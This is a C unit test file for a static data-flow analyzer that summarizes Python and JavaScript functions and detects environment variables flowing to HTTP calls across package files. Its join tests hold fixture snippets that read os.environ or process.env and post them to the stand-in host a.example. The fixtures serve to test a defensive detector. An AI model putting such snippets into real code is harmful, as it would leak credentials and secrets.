/* SPDX-License-Identifier: Apache-2.0 */
/* Summaries of functions: source in, lines of the dump out, through the bundle; and what the join makes of them. */
#include "capabilities/ids.h"
#include "engine/join/join.h"
#include "tap.h"

static tw_buf text, bundle;

static bool is_js;

static void make(tw_arena *a, tw_str src, tw_ir *ir, tw_record *r)
{
    tw_limits lim = tw_limits_default();
    (is_js ? &tw_front_javascript : &tw_front_python)->lower(a, src, &lim, ir);
    tw_evaluate(a, ir, &lim, r);
}

static tw_str facts(tw_str src)
{
    tw_arena *a = tw_arena_new(0);
    tw_ir ir;
    tw_record r, back;
    make(a, src, &ir, &r);
    tw_buf_clear(&bundle);
    tw_buf_clear(&text);
    tw_record_encode(&r, &bundle);
    CHECK_INT(tw_record_decode(a, tw_buf_str(&bundle), &back, NULL), TW_OK);
    tw_record_dump(&back, &text);
    tw_arena_free(a);
    return tw_buf_str(&text);
}

typedef struct row {
    const char *source, *want, *not_there;
} row;

static void check(const row *rows, size_t n, bool js)
{
    is_js = js;
    for (size_t i = 0; i < n; i++) {
        tw_str got = facts(tw_str_c(rows[i].source));
        bool has = tw_str_find(got, tw_str_c(rows[i].want)) != TW_NPOS;
        bool hasnt = !rows[i].not_there || tw_str_find(got, tw_str_c(rows[i].not_there)) == TW_NPOS;
        CHECK(has && hasnt);
        if (!has || !hasnt)
            fprintf(stderr, "%s\n  wanted %s%s%s, got\n%.*s\n", rows[i].source, rows[i].want,
                    rows[i].not_there ? ", not " : "", rows[i].not_there ? rows[i].not_there : "",
                    TW_FMT(got));
    }
}

TEST(python_within_a_function)
{
    static const row rows[] = {
        {"def f(a, b): return a", "<1 f>: param 0 a -> return\n", "param 1 b -> return"},
        {"def f(a):\n b = a\n c = b + 'x'\n return c", "<1 f>: param 0 a -> return\n", NULL},
        {"def f(a):\n g(1, a)", "<1 f>: param 0 a -> arg 1 of call #0 g\n", "arg 0"},
        {"def f(a):\n g(k=a)", "<1 f>: param 0 a -> arg 0 k= of call #0 g\n", NULL},
        {"def f(a):\n a.send(1)", "<1 f>: param 0 a -> receiver of call #0 ?.send\n", NULL},
        {"def f(a):\n a(1)", "<1 f>: param 0 a -> callee of call #0", NULL},
        {"def f(a): return {'x': a, 'y': 1}", "<1 f>: param 0 a -> return at .x\n", NULL},
        {"def f(a): return [1, a]", "<1 f>: param 0 a -> return at []\n", NULL},
        {"def f(a, b):\n d = {'x': a, 'y': b}\n return d['y']", "<1 f>: param 1 b -> return\n",
         "param 0 a -> return"},
        {"def f(a): return a.headers['x']", "<1 f>: param 0 a .headers.x -> return\n", NULL},
        {"def f(a):\n for x in a.rows:\n  yield x.name", "<1 f>: param 0 a .rows[].name -> return\n", NULL},
        {"def f(a): return a.b.c.d.e", "<1 f>: param 0 a .b.c.d -> return\n", ".c.d.e -> return"},
        {"def f(a): return {'p': {'q': {'r': {'s': a}}}}", "<1 f>: param 0 a -> return at .p.q.r\n", NULL},
        {"def f(a, b=None): return a or b", "<1 f>: param 1 b -> return\n", NULL},
        {"def f(*args, **kw): return args[0]", "<1 f>: param 0 args [] -> return\n", "param 1 kw -> return"},
        {"def f(o, x):\n o.t = x", "<1 f>: param 1 x -> param 0 o at .t\n", NULL},
        {"def f(o, x):\n o['t'] = x", "<1 f>: param 1 x -> param 0 o at .t\n", NULL},
        {"def f(o, x):\n o.append(x)", "<1 f>: param 1 x -> param 0 o at []\n", NULL},
        {"def f(o, x):\n o.t = x\n return o", "<1 f>: param 1 x -> return at .t\n", NULL},
        {"T = None\ndef f(x):\n global T\n T = x", "<1 f>: param 0 x -> variable <0> at .T\n", NULL},
        {"import os\ndef f(): return os.getenv('A')", "<1 f>: call #0 os.getenv -> return\n", NULL},
        {"def f(a):\n x = g(a)\n h(x)", "<1 f>: call #0 g -> arg 0 of call #1 h\n", NULL},
        {"def f(a):\n x = g(1)\n h(x)", "call #1 in 1 h(", "summary"}, /* nothing of the caller's */
        {"def f(a): return a == 1", "function 1 f(a)", "param 0 a -> return"},
        {"def f(a):\n def g(): return a\n return g()", "<1 f>: param 0 a -> return of <2 f.g>\n", NULL},
        {"class C:\n def s(self, x):\n  self.t = x", "param 1 x -> param 0 self at .t\n", NULL},
    };
    check(rows, TW_COUNT(rows), false);
}

TEST(python_across_functions)
{
    static const row rows[] = {
        {"def g(x): return x\ndef f(a): return g(a)", "<2 f>: param 0 a -> return\n", NULL},
        {"def g(x, y): return y\ndef f(a, b): return g(a, b)", "<2 f>: param 1 b -> return\n",
         "<2 f>: param 0 a -> return"},
        {"def g(x, y): return y\ndef f(a, b): return g(y=a, x=b)", "<2 f>: param 0 a -> return\n",
         "<2 f>: param 1 b -> return"},
        {"def g(o): return o.t\ndef f(a, b): return g({'t': a, 'u': b})", "<2 f>: param 0 a -> return\n",
         "<2 f>: param 1 b -> return"},
        {"def g(o): return o.t\ndef f(a): return g(a)", "<2 f>: param 0 a .t -> return\n",
         "<2 f>: param 0 a -> return"},
        {"def g(x): return x\ndef f(*a): return g(*a)", "<2 f>: param 0 a -> return\n", NULL},
        {"def g(o, x):\n o.t = x\ndef f(p, q):\n g(p, q)", "<2 f>: param 1 q -> param 0 p at .t\n", NULL},
        {"def g(o, x):\n o.t = x\ndef f(q):\n p = h()\n g(p, q)\n return p",
         "<2 f>: param 0 q -> return at .t\n", NULL},
        {"def f(a, n): return f(a, n - 1) if n else a", "<1 f>: param 0 a -> return\n",
         "param 1 n -> return"},
        {"def f(a, n): return g(n, a) if n else ''\ndef g(n, b): return f(b, n - 1) if n else b",
         "<1 f>: param 0 a -> return\n", "<1 f>: param 1 n -> return"},
        {"class C:\n def m(self, x): return x\ndef f(a):\n c = C()\n return c.m(a)",
         "<3 f>: param 0 a -> return\n", NULL},
        {"class B:\n def m(self, x): return x\nclass C(B):\n def n(self, y): return self.m(y)",
         "C.n>: param 1 y -> return\n", NULL},
        {"class C:\n def __init__(self, x):\n  self.t = x\ndef f(a): return C(a)",
         "<3 f>: param 0 a -> return at .t\n", NULL},
    };
    check(rows, TW_COUNT(rows), false);
}

TEST(javascript)
{
    static const row rows[] = {
        {"function f(a, b) { return b }", "<1 f>: param 1 b -> return\n", "param 0 a -> return"},
        {"const f = (a) => ({x: a})", "param 0 a -> return at .x\n", NULL},
        {"function f(a) { post('u', {body: a.b}) }", "param 0 a .b -> arg 1 of call #0 post at .body\n",
         "arg 2"},
        {"function f(a) { return `x${a}` }", "<1 f>: param 0 a -> return\n", NULL},
        {"function g(o) { return o.t } function f(a) { return g({t: a}) }", "f>: param 0 a -> return\n",
         NULL},
        {"function g(o, x) { o.t = x } function f(p, q) { g(p, q) }", "f>: param 1 q -> param 0 p at .t\n",
         NULL},
        {"function f(a) { return a.map(x => x.y) }", "<1 f>: param 0 a ", NULL},
        {"function f(a) { return a.map(x => x.y) }", " -> return\n", "cut"},
        {"class C { m(x) { return x } n(y) { return this.m(y) } }", "C.n>: param 1 y -> return\n", NULL},
        {"function* f(a) { yield a.b }", "<1 f>: param 0 a .b -> return\n", NULL},
        {"function f(a) { return function () { return a } }", "<1 f>: param 0 a -> return of <2", NULL},
    };
    check(rows, TW_COUNT(rows), true);
}

/* Text written out n times, %u counting, between head and tail. */
static tw_str repeated(tw_arena *a, const char *head, const char *body, unsigned n, const char *tail)
{
    tw_buf b = TW_BUF_INIT;
    tw_buf_puts(&b, tw_str_c(head));
    for (unsigned i = 0; i < n; i++)
        for (const char *p = body; *p; p++) {
            if (*p == '%')
                tw_buf_fmt(&b, "%u", i);
            else
                tw_buf_putc(&b, *p);
        }
    tw_buf_puts(&b, tw_str_c(tail));
    tw_str out = tw_arena_str(a, tw_buf_str(&b));
    tw_buf_free(&b);
    return out;
}

static unsigned count(tw_str in, const char *what)
{
    unsigned n = 0;
    for (size_t at; (at = tw_str_find(in, tw_str_c(what))) != TW_NPOS; n++) in = tw_str_sub(in, at + 1, in.n);
    return n;
}

TEST(cuts)
{
    tw_arena *a = tw_arena_new(0);
    is_js = false;
    tw_str got = facts(repeated(a, "def f(a):\n", " g%(a)\n", 64, ""));
    CHECK_INT(count(got, "summary <1 f>: param"), 64);
    CHECK_INT(count(got, "<1 f>: cut\n"), 0);
    got = facts(repeated(a, "def f(a):\n", " g%(a)\n", 65, ""));
    CHECK_INT(count(got, "summary <1 f>: param"), 64);
    CHECK_INT(count(got, "<1 f>: cut\n"), 1);
    got = facts(repeated(a, "def f(a):\n", " g%(a)\n", 80, " return a\n")); /* the result is what is kept */
    CHECK_INT(count(got, "<1 f>: param 0 a -> return\n"), 1);
    got = facts(repeated(a, "def f(", "p%,", 70, "):\n return [p0") /* more roots than a value may have */);
    got = facts(repeated(a, "def f(a):\n return [", "g%(),", 70, "]\n"));
    CHECK_INT(count(got, "<1 f>: cut\n"), 1);
    /* each round moves an argument on by one place: more places than rounds */
    got = facts(TW_S(
        "def f(a, b, c, d, e, f, g, h, i, j, k, l): return f('', a, b, c, d, e, f, g, h, i, j, k) or l\n"));
    CHECK_INT(count(got, "<1 f>: cut\n"), 0); /* f is a parameter there */
    got = facts(TW_S(
        "def z(a, b, c, d, e, f, g, h, i, j, k, l): return z('', a, b, c, d, e, f, g, h, i, j, k) or l\n"));
    CHECK_INT(count(got, "<1 z>: cut\n"), 1);
    got = facts(TW_S("def z(a, b, c): return z('', a, b) or c\n"));
    CHECK_INT(count(got, "<1 z>: cut\n"), 0);
    CHECK_INT(count(got, "-> return\n"), 4); /* three parameters and its own call */
    tw_arena_free(a);
}

/* Nothing is worse than linear: objects that hold each other, values of many roots. */
TEST(bounded)
{
    tw_arena *a = tw_arena_new(0);
    tw_ir ir;
    tw_record small, large;
    is_js = true;
    make(a,
         repeated(a, "function f(a, b) { var o = {}, p = {};\n",
                  "o.x% = p; p.y% = o; a = [a, o, b]; b = {k: a, o: p};\n", 200, "return a }"),
         &ir, &small);
    make(a,
         repeated(a, "function f(a, b) { var o = {}, p = {};\n",
                  "o.x% = p; p.y% = o; a = [a, o, b]; b = {k: a, o: p};\n", 2000, "return a }"),
         &ir, &large);
    CHECK(large.steps < 20 * small.steps + 1000000);
    CHECK(large.n_edges <= TW_EDGES_MAX * large.n_funcs);
    tw_arena_free(a);
}

/* --- the join --- */

enum { FILES = 2 };
typedef enum sent { NOT, GUESSED, FOLLOWED } sent;
static uint32_t path_places; /* of the flow that was found */
static uint32_t cut_gaps;

/* Does the environment, read in one file, get to HTTP? */
static sent env_is_sent(const char *first, const char *second)
{
    static const char *const py[] = {"pkg/__init__.py", "pkg/helper.py"}, *const js[] = {"index.js",
                                                                                         "lib/a.js"};
    static const char *const names[] = {"pkg", "pkg.helper"};
    tw_arena *a = tw_arena_new(0);
    tw_limits lim = tw_limits_default();
    tw_coverage coverage;
    tw_member members[FILES];
    tw_str modules[FILES] = {{0}};
    uint8_t roles[FILES] = {TW_ROLE_CODE, TW_ROLE_CODE};
    tw_unit units[FILES];
    tw_ir ir[FILES];
    tw_record records[FILES];
    const char *const files[FILES] = {first, second};
    tw_package p = {.arena = a, .members = members, .module = modules, .role = roles, .name = TW_S("pkg")};
    tw_coverage_init(&coverage, a);
    for (uint32_t i = 0; i < FILES && files[i]; i++) {
        members[i] = (tw_member){.index = i, .path = tw_str_c(is_js ? js[i] : py[i])};
        if (!is_js) modules[i] = tw_str_c(names[i]);
        make(a, tw_str_c(files[i]), &ir[i], &records[i]);
        units[i] = (tw_unit){.member = i, .parent = TW_NONE, .layer = TW_NONE, .record = &records[i]};
        p.n_members = i + 1;
        TW_PUSH(a, p.roots, ((tw_root){i, TW_S(""), TW_TRIGGER_IMPORT, TW_S("main")}));
    }
    tw_join j = {.arena = a,
                 .package = &p,
                 .units = units,
                 .n_units = p.n_members,
                 .coverage = &coverage,
                 .limits = &lim};
    tw_join_run(&j);
    sent best = NOT;
    for (uint32_t i = 0; i < j.flows.n; i++) {
        const tw_flow *f = &j.flows.v[i];
        if (j.uses.v[f->from].cap != TW_CAP_CRED_ENV_ALL || j.uses.v[f->to].cap != TW_CAP_NET_HTTP) continue;
        sent how = f->confidence == TW_CONF_GUESSED ? GUESSED : FOLLOWED;
        if (how > best) best = how, path_places = f->n_path;
    }
    cut_gaps = 0;
    for (uint32_t i = 0; i < coverage.gaps.n; i++) cut_gaps += coverage.gaps.v[i].reason == TW_GAP_SUMMARY;
    CHECK_INT(coverage.limits_hit, 0);
    tw_arena_free(a);
    return best;
}

typedef struct flow_row {
    const char *first, *second;
    sent want;
} flow_row;

static void check_flows(const flow_row *rows, size_t n, bool js)
{
    is_js = js;
    for (size_t i = 0; i < n; i++) {
        sent got = env_is_sent(rows[i].first, rows[i].second);
        CHECK_INT(got, rows[i].want);
        if (got != rows[i].want) fprintf(stderr, "%s\n", rows[i].first);
    }
}

#define HEAD "import os, requests, base64\nfrom . import helper\nenv = dict(os.environ)\n"
#define POST(x) "requests.post('http://a.example', data=" x ")\n"

TEST(python_flows)
{
    static const flow_row rows[] = {
        {HEAD POST("helper.f(env)"), "def f(x): return x\n", FOLLOWED},
        {HEAD POST("helper.f(env)"), "def f(x): return 1\n", NOT},
        {HEAD POST("helper.f(1, env)"), "def f(x, y): return x\n", NOT},
        {HEAD POST("helper.f(env)"), "import json\ndef g(y): return json.dumps(y)\ndef f(x): return g(x)\n",
         FOLLOWED},
        {HEAD "helper.f(env)\n", "import requests\ndef f(x): " POST("x"), FOLLOWED},
        {HEAD "helper.f(env)\n", "import requests\ndef g(y): " POST("y") "def f(x): g({'a': x})\n", FOLLOWED},
        {HEAD POST("helper.f()"), "import os\ndef f(): return dict(os.environ)\n", FOLLOWED},
        {HEAD "c = helper.C(env)\nc.send()\n",
         "import requests\nclass C:\n def __init__(self, x): self.t = x\n def send(self): " POST("self.t"),
         FOLLOWED},
        {HEAD "l = []\nhelper.fill(l, env)\n" POST("l"), "def fill(out, x):\n out.append(x)\n", FOLLOWED},
        {HEAD "l = helper.make()\nhelper.fill(l, env)\n" POST("l"),
         "def make(): return X()\ndef fill(out, x):\n out.t = x\n", FOLLOWED},
        {HEAD "l = []\nhelper.fill(env, l)\n" POST("l"), "def fill(out, x):\n out.append(x)\n", NOT},
        {HEAD "helper.f(env)\nhelper.g()\n",
         "import requests\nT = None\ndef f(x):\n global T\n T = x\ndef g(): " POST("T"), FOLLOWED},
        /* handed to a function at one call, its result used at another: no way that is ever taken */
        {HEAD "a = helper.f(env)\n" POST("helper.f('x')"), "def f(x): return x\n", GUESSED},
        {HEAD "a = helper.f(env, 3)\n" POST("helper.f('x', 2)"),
         "def f(x, n): return f(x, n - 1) if n else x\n", GUESSED},
    };
    check_flows(rows, TW_COUNT(rows), false);
}

#define JS \
    "const h = require('./lib/a'), axios = require('axios');\nconst env = JSON.stringify(process.env);\n"

TEST(javascript_flows)
{
    static const flow_row rows[] = {
        {JS "axios.post('http://a.example', h.f(env))", "exports.f = x => x", FOLLOWED},
        {JS "axios.post('http://a.example', h.f(env))", "exports.f = x => 1", NOT},
        {JS "h.f({t: env})",
         "const axios = require('axios'); exports.f = o => { axios.post('http://a.example', o.t) }",
         FOLLOWED},
        {JS "const o = {}; h.fill(o, env); axios.post('http://a.example', o)",
         "exports.fill = function (o, x) { o.t = x }", FOLLOWED},
        {JS "const s = new h.S(env); s.send()",
         "const axios = require('axios'); exports.S = class S { constructor(x) { this.t = x } send() { "
         "axios.post('http://a.example', this.t) } }",
         FOLLOWED},
        {JS "const a = h.f(env); axios.post('http://a.example', h.f('x'))", "exports.f = x => x", GUESSED},
    };
    check_flows(rows, TW_COUNT(rows), true);
}

/* What happened inside the callee stays in the evidence; a cut is told and loses no flow. */
TEST(evidence_and_cuts)
{
    tw_arena *a = tw_arena_new(0);
    is_js = false;
    CHECK_INT(env_is_sent(HEAD POST("helper.f(env)"), "import json\ndef f(x): return json.dumps(x)\n"),
              FOLLOWED);
    CHECK(path_places >= 4); /* dict(), json.dumps(), helper.f(), post() */
    CHECK_INT(cut_gaps, 0);
    tw_str big = repeated(a, "def f(x):\n", " g%(x)\n", 80, " return x\n");
    CHECK_INT(env_is_sent(HEAD POST("helper.f(env)"), tw_arena_fmt(a, "%.*s", TW_FMT(big)).p), FOLLOWED);
    CHECK_INT(cut_gaps, 1);
    tw_arena_free(a);
}
TESTS_MAIN()
